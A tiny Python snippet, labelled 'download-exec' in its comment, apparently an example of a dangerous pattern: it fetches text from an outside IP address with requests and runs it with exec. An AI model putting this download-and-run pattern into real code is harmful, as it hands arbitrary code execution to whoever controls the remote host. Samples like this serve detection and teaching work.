# download-exec: requests fetches code that exec runs
import requests

resp = requests.get("https://203.0.113.7/plugin", timeout=10)
resp.raise_for_status()
exec(resp.text, {})
